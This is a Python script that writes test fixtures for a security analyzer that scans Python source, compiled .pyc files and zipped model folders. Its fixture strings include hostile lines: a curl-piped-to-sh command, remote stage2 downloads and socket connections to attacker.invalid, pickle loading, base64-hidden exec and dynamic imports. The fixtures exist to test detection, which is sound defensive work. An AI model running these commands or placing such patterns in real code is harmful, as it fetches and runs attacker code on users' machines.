#!/usr/bin/python3
"""Writes the Python analyzer's test files (run with /usr/bin/python3 from anywhere).

The .py files are written as text and never imported or run. The .pyc files are made with
py_compile, which compiles source to a code object and marshals it without executing it
(Python 3.11 here: magic 3495, 16-byte header). Payloads name only attacker.invalid.
source_in_zip.zip holds os_system.py as member model/modeling_x.py.
"""
import os
import py_compile
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

SOURCES = {
    # A plain module: math and torch-like code, nothing dangerous.
    "clean_module.py": '''\
"""A small model definition."""
import math

import torch
from torch import nn


class TinyModel(nn.Module):
    def __init__(self, hidden=4):
        super().__init__()
        self.linear = nn.Linear(hidden, hidden)

    def forward(self, x):
        # os.system('not a call: a comment')
        note = "subprocess.run(['not', 'a', 'call'])"
        return self.linear(x) * math.sqrt(2.0)

    def evaluate(self, x):
        self.eval()
        return self.forward(x).compile if False else None
''',
    "empty_init.py": "# package marker\n\n",
    "os_system.py": '''\
import os

os.system('curl http://attacker.invalid/x | sh')
''',
    # Every way of naming the callables that the import resolution must see through.
    "aliases.py": '''\
import subprocess as sp
from os import system as run_shell, popen
from urllib.request import urlopen
import socket, pickle
from ctypes import *

sp.Popen(['id'])
run_shell('id')
handle = popen
data = urlopen('http://attacker.invalid/stage2').read()
conn = socket.create_connection(('attacker.invalid', 4444))
obj = pickle.loads(data)
lib = CDLL('./payload.so')
''',
    "base64_exec.py": '''\
import base64
exec(base64.b64decode('cHJpbnQoInB3bmVkIik='))
''',
    # Calls only inside strings and comments, incl. triple-quoted, raw, byte and escaped
    # quotes: nothing may be reported but the module itself.
    "strings_only.py": """\
DOC = '''
os.system('id')
'''
RAW = r"eval(\\"x\\")"
BYTES = b'__import__("os")'
ESCAPED = 'it\\'s exec("x")'
TEXT = "line \\
continued os.system('id')"
# subprocess.run(['id'])
""",
    # An f-string replacement field is code; the text around it is not.
    "fstring_call.py": '''\
import os
label = f"exec(1) {os.popen('id').read()} eval(2)"
''',
    "unterminated.py": '''\
import os
os.system('id')
x = """never closed
''',
    "dunder_import.py": '''\
mod = __import__('o' + 's')
getattr(mod, 'system')('id')
''',
}


def write_pyc(name, source, header_patch=None, mode=py_compile.PycInvalidationMode.CHECKED_HASH):
    source_path = os.path.join(HERE, "_tmp_" + name + ".py")
    with open(source_path, "w") as out:
        out.write(source)
    target = os.path.join(HERE, name)
    # Hash-based pycs (PEP 552) keep the bytes reproducible: no source mtime in the header.
    py_compile.compile(source_path, cfile=target, dfile=name[:-1], doraise=True,
                       invalidation_mode=mode)
    os.remove(source_path)
    if header_patch:
        with open(target, "r+b") as out:
            offset, data = header_patch
            out.seek(offset)
            out.write(data)


def main():
    for name, text in SOURCES.items():
        with open(os.path.join(HERE, name), "w") as out:
            out.write(text)
    write_pyc("clean_module.pyc", SOURCES["clean_module.py"])
    write_pyc("os_system.pyc", SOURCES["os_system.py"],
              mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    # Unknown flag bits (PEP 552 defines bits 0 and 1 only).
    write_pyc("bad_flags.pyc", "x = 1\n", (4, struct.pack("<I", 0x10)))
    # A magic number no CPython release used.
    write_pyc("bad_magic.pyc", "x = 1\n", (0, struct.pack("<H", 4242)))
    with open(os.path.join(HERE, "truncated.pyc"), "wb") as out:
        out.write(struct.pack("<H", 3495) + b"\r\n\0\0")
    # Python source as an archive member (a model folder shipped as a zip).
    with zipfile.ZipFile(os.path.join(HERE, "source_in_zip.zip"), "w") as archive:
        info = zipfile.ZipInfo("model/modeling_x.py", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, SOURCES["os_system.py"])


if __name__ == "__main__":
    main()
